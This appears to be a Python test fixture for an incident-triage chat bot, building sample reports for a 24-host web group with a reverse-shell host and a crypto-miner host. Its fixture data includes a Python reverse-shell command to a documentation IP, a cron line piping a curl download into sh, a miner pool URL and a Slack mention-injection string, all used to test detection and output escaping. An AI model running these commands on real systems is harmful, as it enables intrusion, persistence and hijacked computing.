"""Reports as a responder meets them: 24 hosts of web-asg, two compromised, one offline, a deploy half done."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime, timedelta

from bot.model import (
    Baseline,
    BaselineInfo,
    Change,
    Coverage,
    Finding,
    Held,
    Host,
    HostStatus,
    HostVerdict,
    Limits,
    LookAlikes,
    Method,
    Missed,
    MissReason,
    Progress,
    Quadrant,
    QueryStatus,
    Report,
    Run,
    RunInfo,
    RunKind,
    RunState,
    Schedule,
    ScorePart,
    SharedFact,
    Target,
    TargetKind,
    UnknownQuery,
)

NOW = datetime(2026, 11, 23, 3, 14, 20, tzinfo=UTC)
RUN_ID = "r-7f3a91"
RESPONDER = "U0RESPONDR"
APPROVER = "U0LEAD"
CHANNEL = "C0INCIDENT"
HOSTILE = "<!channel> *x* https://evil.example"


def _host(number: int) -> Host:
    new = number >= 15
    return Host(
        id=f"i-0{(number * 0x9E3779B97F4A7C15) % 16**16:016x}",
        group="web-asg",
        private_ip=f"10.0.{number % 3 + 1}.{40 + number}",
        hostname=f"ip-10-0-{number % 3 + 1}-{40 + number}.ec2.internal",
        zone=f"us-east-1{'abc'[number % 3]}",
        image_id="ami-0c2f25c1f66a1ff4d" if new else "ami-0b5eea76982371e91",
        template_version="13" if new else "12",
        instance_type="t3.medium",
        launch_time=datetime(2026, 11, 22 if new else 12, 9, number, tzinfo=UTC),
    )


HOSTS = tuple(sorted((_host(number) for number in range(1, 25)), key=lambda host: host.id))
MINER = _host(7)
SHELL = _host(18)
OFFLINE = _host(11)
SLOW = _host(21)
QUIET = tuple(host for host in HOSTS if host not in (MINER, SHELL, OFFLINE, SLOW))


def _counts(change: Change, baseline_seen: int | None) -> str:
    """Return the counts as the analysis ends its reasons."""
    if change is Change.REMOVED:
        return "the other 22 hosts all have it; the baseline has it"
    it = "this" if change is Change.CHANGED else "it"
    return f"none of the other 22 hosts has {it}" + ("" if baseline_seen is None else "; not in the baseline")


def _finding(
    host: Host,
    query: str,
    row: dict[str, str],
    why: str,
    score: float,
    *attack: str,
    change: Change = Change.ADDED,
    expected: dict[str, str] | None = None,
    parts: tuple[tuple[str, float], ...] = (),
    seen_on: int = 0,
    baseline_seen: int | None = 0,
    others: tuple[Held, ...] = (),
    also: tuple[SharedFact, ...] = (),
    seen: str = "",
) -> Finding:
    return Finding(
        hosts=(host.id,),
        query=query,
        change=change,
        row=row,
        expected=expected,
        score=score,
        seen_on=seen_on,
        of=22,
        baseline_seen=baseline_seen,
        baseline_of=None if baseline_seen is None else 3,
        attack=attack,
        why=f"{why}; {_counts(change, baseline_seen)}{f' (also seen: {seen})' if seen else ''}",
        quadrant=Quadrant.NEW_RARE,
        outlying=score >= 9,
        parts=tuple(ScorePart(label, bits) for label, bits in parts),
        others=others,
        also=also,
    )


ON_ONE = "on only 1 of 23 hosts"
IN_NONE = "new: in none of 3 baseline snapshots (half of 2.8)"
NOTHING = (Held(None, 22, 3),)
CONNECTED = SharedFact(
    "outbound_sockets",
    Change.ADDED,
    {
        "process_name": "kworker/u4:1",
        "process_path": "/dev/shm/.k/kworker",
        "username": "root",
        "protocol": "6",
        "remote_address": "198.51.100.3",
        "remote_port": "3333",
        "pid": "4471",
        "instances": "2",
    },
    None,
    10.2,
    "has /dev/shm/.k/kworker connected to 198.51.100.3 port 3333 as root: it runs from a folder that everybody may write to",
    rows=({"process_path": "/dev/shm/.k/kworker", "remote_address": "198.51.100.3", "pid": "4472"},),
    attack=("T1071", "T1571"),
)
ON_DISK = SharedFact(
    "tmp_executables",
    Change.ADDED,
    {"path": "/dev/shm/.k/kworker", "type": "regular", "mode": "0755", "uid": "0", "sha256": "7f" * 32},
    None,
    9.4,
    "has the file /dev/shm/.k/kworker: it lies in a hidden place and in a folder that everybody may write to",
)

FINDINGS = (
    _finding(
        SHELL,
        "shell_with_socket",
        {
            "pid": "4127",
            "name": "bash",
            "path": "/usr/bin/bash",
            "cmdline": "bash -i",
            "username": "www-data",
            "parent_cmdline": "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.23',4444))",
            "remote_address": "198.51.100.23",
            "remote_port": "4444",
        },
        "has /usr/bin/bash connected to 198.51.100.23 port 4444 as www-data, command line “bash -i”: it is a shell that talks to another host",
        15.6,
        "T1059.004",
        "T1071",
        parts=(
            (ON_ONE, 5.5),
            (IN_NONE, 1.4),
            ("a new connection", 4.7),
            ("is a shell or interpreter that talks to another host", 4.0),
        ),
        others=NOTHING,
    ),
    _finding(
        MINER,
        "processes",
        {
            "name": "kworker/u4:1",
            "path": "/dev/shm/.k/kworker",
            "cmdline": "/dev/shm/.k/kworker -o stratum+tcp://pool.evil.example:3333 -u 44Adq…",
            "username": "root",
            "on_disk": "1",
            "parent_name": "systemd",
            "instances": "1",
        },
        "runs “/dev/shm/.k/kworker -o stratum+tcp://pool.evil.example:3333 -u 44Adq…” as root: it is dressed as a kernel thread and runs from a folder that everybody may write to",
        14.2,
        "T1036.005",
        "T1496",
        parts=(
            (ON_ONE, 5.5),
            (IN_NONE, 1.4),
            ("a new process", 0.3),
            ("is dressed as a kernel thread", 4.0),
            ("mines coins", 2.0),
            ("runs from a folder that everybody may write to", 1.0),
        ),
        others=NOTHING,
        also=(CONNECTED, ON_DISK),
        seen="connection, program file",
    ),
    _finding(
        MINER,
        "crontab",
        {
            "path": "/var/spool/cron/crontabs/root",
            "command": "curl -fsSL http://198.51.100.99/i.sh | sh >/dev/null 2>&1",
            "minute": "*/10",
            "hour": "*",
            "day_of_month": "*",
            "month": "*",
            "day_of_week": "*",
            "event": "",
        },
        "has the scheduled job “curl -fsSL http://198.51.100.99/i.sh | sh >/dev/null 2>&1” in /var/spool/cron/crontabs/root: it downloads a script straight into a shell and fetches from an address without a name",
        13.1,
        "T1053.003",
        "T1105",
        parts=(
            (ON_ONE, 5.5),
            (IN_NONE, 1.4),
            ("a new scheduled job", 2.5),
            ("downloads a script straight into a shell", 3.7),
        ),
        others=NOTHING,
    ),
    _finding(
        SHELL,
        "authorized_keys",
        {
            "username": "root",
            "key_file": "/root/.ssh/authorized_keys",
            "algorithm": "ssh-ed25519",
            "options": "",
            "comment": "kali@kali",
            "key_sha256": "5d41c0d3b8a1f7c9e2b64a9917c2e5f0a3b1d8e7f6c5a4b3928170f6e5d4c3b2",
        },
        "has the login key “kali@kali” for root in /root/.ssh/authorized_keys: it opens the root account",
        12.4,
        "T1098.004",
        parts=((ON_ONE, 5.5), (IN_NONE, 1.4), ("a new login key", 4.5), ("opens the root account", 1.0)),
        others=NOTHING,
    ),
    _finding(
        MINER,
        "kernel_controls",
        {"name": "kernel.tainted", "current_value": "12289"},
        "has the kernel setting kernel.tainted = 12289 instead of 0: the kernel runs code that nobody signed",
        10.4,
        "T1562.001",
        "T1014",
        change=Change.CHANGED,
        expected={"name": "kernel.tainted", "current_value": "0"},
        parts=(
            (ON_ONE, 5.5),
            (IN_NONE, 1.4),
            ("a changed kernel setting", 0.5),
            ("the kernel runs code that nobody signed", 3.0),
        ),
        others=(Held({"current_value": "0"}, 21, 3), Held({"current_value": "4096"}, 1, 0)),
    ),
    _finding(
        SHELL,
        "processes",
        {
            "name": HOSTILE,
            "path": "/tmp/<!channel>",
            "cmdline": f"{HOSTILE} -- ```\u202egpj.x``` :rotating_light: \x1b[31m@here",
            "username": "www-data",
            "on_disk": "0",
            "parent_name": "bash",
            "instances": "1",
        },
        f"runs /tmp/<!channel> as www-data, command line “{HOSTILE} -- ```\u202egpj.x```”: its program file was deleted",
        9.8,
        "T1070.004",
        parts=((ON_ONE, 5.5), (IN_NONE, 1.4), ("its program file was deleted", 2.9)),
        others=NOTHING,
    ),
    _finding(
        MINER,
        "systemd_units",
        {
            "id": "auditd.service",
            "load_state": "loaded",
            "unit_file_state": "enabled",
            "fragment_path": "/usr/lib/systemd/system/auditd.service",
            "user": "",
        },
        "does not have the service auditd.service: a service that guards the host is missing",
        9.1,
        "T1562.001",
        change=Change.REMOVED,
        expected=None,
        parts=(
            ("missing on only 1 of 23 hosts", 5.5),
            ("new: missing in none of 3 baseline snapshots (half of 2.8)", 1.4),
            ("a missing service", -0.5),
            ("a service that guards the host is missing", 3.5),
            ("a package of that name changed on the same host", -3.0),
            ("honest causes take off no more than this", 2.2),
        ),
        others=(Held({}, 22, 3),),
    ),
    _finding(
        QUIET[3],
        "logins",
        {"username": "ops", "host": "10.0.9.14", "times": "2", "last_time": "1795410000"},
        "has “ops, 10.0.9.14” in logins",
        4.2,
        "T1078",
        parts=((ON_ONE, 4.2),),
        others=(Held(None, 22, 0),),
        baseline_seen=None,
    ),
    _finding(
        QUIET[9],
        "deb_packages",
        {"name": "tcpdump", "version": "4.99.1-3ubuntu0.2", "arch": "amd64"},
        "has the package tcpdump 4.99.1-3ubuntu0.2",
        3.6,
        parts=(
            (ON_ONE, 5.5),
            (IN_NONE, 1.4),
            ("a new package", -0.5),
            ("packages changed on the same host", -2.8),
        ),
        others=NOTHING,
    ),
)

BASELINE = Baseline(
    target="web-asg",
    version=3,
    hosts=tuple(host.id for host in HOSTS[:3]),
    snapshots=("a" * 64, "b" * 64, "c" * 64),
    pack="linux-triage",
    author=APPROVER,
    created_at=NOW - timedelta(days=6, hours=2),
    renewed_at=NOW - timedelta(days=6, hours=2),
    reason="Release 2026.11.1 is out on the whole group",
    run="r-51c0de",
    images=("ami-0b5eea76982371e91",),
    template_versions=("12",),
)

BASELINE_INFO = BaselineInfo(
    BASELINE.version, BASELINE.author, BASELINE.created_at, BASELINE.renewed_at, BASELINE.hosts
)


def _verdict(rank: int, host: Host) -> HostVerdict:
    mine = [finding for finding in FINDINGS if host.id in finding.hosts]
    sharp = [finding for finding in mine if finding.outlying]
    return HostVerdict(
        id=host.id,
        rank=rank,
        score=mine[0].score + 0.3 * sum(finding.score for finding in mine[1:2]) if mine else 0.0,
        outlier=bool(sharp),
        status=HostStatus.PARTIAL if host == SLOW else HostStatus.ANSWERED,
        cohort=f"template {host.template_version}",
        reason=mine[0].why if mine else "",
        host=host,
    )


def _ranked() -> tuple[HostVerdict, ...]:
    order = [SHELL, MINER, QUIET[3], QUIET[9], *(host for host in HOSTS if host in QUIET or host == SLOW)]
    hosts = [_verdict(rank, host) for rank, host in enumerate(dict.fromkeys(order), 1)]
    missed = HostVerdict(
        OFFLINE.id, 0, 0.0, outlier=False, status=HostStatus.MISSED, cohort="template 12", host=OFFLINE
    )
    return (*hosts, missed)


REPORT = Report(
    run=RunInfo(
        id=RUN_ID,
        target="web-asg",
        method=Method.BOTH,
        method_reason="a baseline exists",
        pack="linux-triage",
        requested_by=RESPONDER,
        started_at=NOW - timedelta(seconds=41),
        finished_at=NOW,
        incident="INC-42",
        api_calls=38,
        api_repeated=2,
    ),
    coverage=Coverage(
        targeted=24,
        answered=22,
        partial=1,
        missed=(Missed(OFFLINE.id, MissReason.OFFLINE, "last seen 2026-11-22 22:50 UTC"),),
        unknown=(UnknownQuery(SLOW.id, "suid_bin", QueryStatus.TIMED_OUT, ""),),
        queries=39,
    ),
    hosts=_ranked(),
    findings=FINDINGS,
    limits=Limits(peers=22, baseline=3, most_bits=5.5, threshold_bits=9.0, tentative=False),
    lookalikes=(
        LookAlikes("template 12", tuple(host.id for host in HOSTS if host.template_version == "12")[:12]),
        LookAlikes("template 13", tuple(host.id for host in HOSTS if host.template_version == "13")[:9]),
        LookAlikes("apart", (MINER.id, SHELL.id)),
    ),
    notes=(
        "14 hosts run template 12 and 10 run template 13: a deploy is half done; it is not counted as odd.",
    ),
    baseline=BASELINE_INFO,
)

CLEAN = dataclasses.replace(
    REPORT,
    run=dataclasses.replace(REPORT.run, id="r-0c1ea2", target="api-asg", incident=""),
    coverage=Coverage(targeted=6, answered=6, partial=0, queries=39),
    hosts=tuple(
        dataclasses.replace(host, outlier=False, reason="", score=0.0, status=HostStatus.ANSWERED, rank=rank)
        for rank, host in enumerate(REPORT.hosts[:6], 1)
    ),
    findings=(),
    limits=Limits(peers=5, baseline=3, most_bits=3.5, threshold_bits=8.0, tentative=False),
    lookalikes=(LookAlikes("template 12", tuple(host.id for host in REPORT.hosts[:6])),),
    notes=(),
)

RUN = Run(
    id=RUN_ID,
    kind=RunKind.ANALYZE,
    target=Target(TargetKind.GROUP, ("web-asg",)),
    pack="linux-triage",
    requested_by=RESPONDER,
    created_at=NOW - timedelta(seconds=43),
    state=RunState.DONE,
    channel=CHANNEL,
    message_ts="1795422619.000100",
    incident="INC-42",
    started_at=NOW - timedelta(seconds=41),
    ended_at=NOW,
    has_report=True,
)

SCHEDULE = Schedule(
    id="s-2b",
    target=Target(TargetKind.GROUP, ("web-asg",)),
    cron="0 6 * * *",
    words="daily 06:00 UTC",
    channel=CHANNEL,
    created_by=APPROVER,
    created_at=NOW - timedelta(days=9),
    last_fired_at=NOW - timedelta(hours=21),
    next_fire_at=datetime(2026, 11, 23, 6, 0, tzinfo=UTC),
    last_result="nothing changed",
)

COLLECTING = Progress(
    RunState.COLLECTING,
    targeted=24,
    answered=17,
    missed=1,
    waiting_for=tuple(host.id for host in QUIET[:6]),
    known_offline=(OFFLINE.id,),
)

SO_FAR = dataclasses.replace(
    REPORT,
    run=dataclasses.replace(REPORT.run, provisional=True),
    coverage=Coverage(20, 20, 0, (Missed(OFFLINE.id, MissReason.OFFLINE),)),
)
PROVISIONAL = Progress(
    RunState.COLLECTING,
    targeted=24,
    answered=20,
    missed=1,
    waiting_for=tuple(host.id for host in QUIET[:3]),
    known_offline=(OFFLINE.id,),
)


def _change(
    change: Change, query: str, row: dict[str, str], expected: dict[str, str] | None, *hosts: Host
) -> Finding:
    return Finding(
        hosts=tuple(sorted(host.id for host in hosts)),
        query=query,
        change=change,
        row=row,
        expected=expected,
        score=4.4,
        seen_on=0,
        of=0,
        baseline_seen=0,
        baseline_of=3,
        attack=(),
        why=f"{query} differs from the baseline",
        quadrant=Quadrant.NEW_COMMON,
    )


ANSWERED = tuple(host for host in HOSTS if host != OFFLINE)
CHANGED = dataclasses.replace(
    REPORT,
    run=dataclasses.replace(
        REPORT.run,
        id="r-9d20e4",
        method=Method.BASELINE,
        requested_by="schedule:s-2b",
        incident="",
        method_reason="a schedule compares with the present baseline",
    ),
    findings=(
        _change(
            Change.ADDED,
            "listening_ports",
            {
                "port": "9100",
                "protocol": "6",
                "address": "0.0.0.0",
                "process_name": "node_exporter",
                "process_path": "/usr/local/bin/node_exporter",
                "username": "prometheus",
            },
            None,
            *ANSWERED,
        ),
        _change(
            Change.ADDED,
            "systemd_units",
            {
                "id": "node_exporter.service",
                "load_state": "loaded",
                "unit_file_state": "enabled",
                "fragment_path": "/etc/systemd/system/node_exporter.service",
                "user": "prometheus",
            },
            None,
            *ANSWERED,
        ),
        _change(
            Change.CHANGED,
            "deb_packages",
            {"name": "openssl", "version": "3.0.2-0ubuntu1.12", "arch": "amd64"},
            {"name": "openssl", "version": "3.0.2-0ubuntu1.10", "arch": "amd64"},
            *ANSWERED[:9],
        ),
        _change(
            Change.REMOVED,
            "crontab",
            {
                "path": "/etc/cron.d/logship",
                "command": "root /opt/logship/run.sh",
                "minute": "*/5",
                "hour": "*",
            },
            None,
            ANSWERED[4],
        ),
    ),
    hosts=tuple(dataclasses.replace(host, outlier=False, score=4.4, reason="") for host in REPORT.hosts),
    notes=(),
    lookalikes=(),
)
